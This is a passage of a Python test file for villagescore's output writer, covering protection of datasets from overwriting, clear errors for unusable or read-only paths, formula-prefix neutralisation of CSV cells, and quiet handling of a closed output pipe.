    assert proc.stdout.startswith(b"{")
    assert os.path.islink("/dev/stdout") == link  # never replaced by a regular file


def test_a_file_villagescore_reads_is_never_replaced_but_a_report_is(tmp_path):
    dataset = tmp_path / "other.csv"
    dataset.write_bytes(TOY_CSV.read_bytes())
    with pytest.raises(OutputError, match="it is a dataset with village-year rows, not an output of villagescore"):
        atomic_write(dataset, b"village_id,year,overall_score\n")
    assert dataset.read_bytes() == TOY_CSV.read_bytes()
    atomic_write(dataset, b"regenerated", keep_inputs=False)  # the writer of datasets replaces its own
    assert dataset.read_bytes() == b"regenerated"
    report = tmp_path / "scores.csv"  # a result table as evaluate --format csv starts it (villagescore.report_heads)
    from villagescore.report_heads import RESULT_CSV_HEAD

    table = ",".join(RESULT_CSV_HEAD) + "\nv1,Một,X,Hà Nội,,,,a,2024,50.0,1.0,r,R\n"
    atomic_write(report, b"\xef\xbb\xbf" + table.encode("utf-8"))
    atomic_write(report, b"again")
    assert report.read_bytes() == b"again"


def test_an_unusable_output_path_is_said_never_a_traceback(tmp_path):
    with pytest.raises(OutputError, match="the file name is too long"):
        atomic_write(tmp_path / ("a" * 300 + ".json"), b"x")
    data = tmp_path / "ds.csv"
    data.write_bytes(b"x")
    with pytest.raises(OutputError, match=r"ds.csv is a file, not a folder"):
        atomic_write(data / "out.json", b"x")


def test_the_fast_row_path_neutralises_every_cell_as_neutralise_does():
    """``_row_cells`` writes :func:`neutralise` out for speed: the two must never part ways."""
    from villagescore.outputs import FORMULA_PREFIXES, _row_cells, neutralise

    cells = [None, "", "plain", "Hà Nội", 1, 2.5, float("nan"), True,
             *(prefix + "x" for prefix in FORMULA_PREFIXES), *(" " + prefix for prefix in FORMULA_PREFIXES)]
    [fast] = list(_row_cells([cells]))
    expected = ["" if v is None else neutralise(v) for v in cells]
    assert [repr(v) for v in fast] == [repr(v) for v in expected]
    [localised] = list(_row_cells([cells], decimal=","))
    assert [v for v, c in zip(localised, cells, strict=True) if isinstance(c, str)] == \
           [neutralise(c) for c in cells if isinstance(c, str)]


def test_an_output_on_a_read_only_file_system_says_the_disk_is_read_only(tmp_path, monkeypatch):
    """Audit 2026-12-07: `-o` into a read-only mount said "permission denied", as for a folder of another user."""
    from types import SimpleNamespace

    from villagescore.outputs import check_output_path

    real = os.statvfs
    monkeypatch.setattr(os, "access", lambda path, mode, **kwargs: False)  # what access() says on the mount
    monkeypatch.setattr(os, "statvfs", lambda folder: SimpleNamespace(f_flag=real(folder).f_flag | os.ST_RDONLY))
    with pytest.raises(OutputError) as raised:
        check_output_path(tmp_path / "p.json")
    assert raised.value.text("en") == f"cannot write {tmp_path / 'p.json'}: the disk is read-only"
    assert "permission denied" not in raised.value.text("en")
    assert "ổ đĩa chỉ cho phép đọc" in raised.value.text("vi")


def test_a_pipe_whose_reader_is_gone_is_a_quiet_end_not_an_output_error():
    """Seventeenth walk: ``-o /dev/stdout | head -1`` was an error; on standard output it is the quiet end."""
    from villagescore.errors import StdoutClosed
    from villagescore.outputs import atomic_stream

    read, write = os.pipe()
    os.close(read)
    try:
        with pytest.raises(StdoutClosed), atomic_stream(f"/proc/self/fd/{write}") as handle:
            handle.write(b"x" * 100_000)
    finally:
        os.close(write)
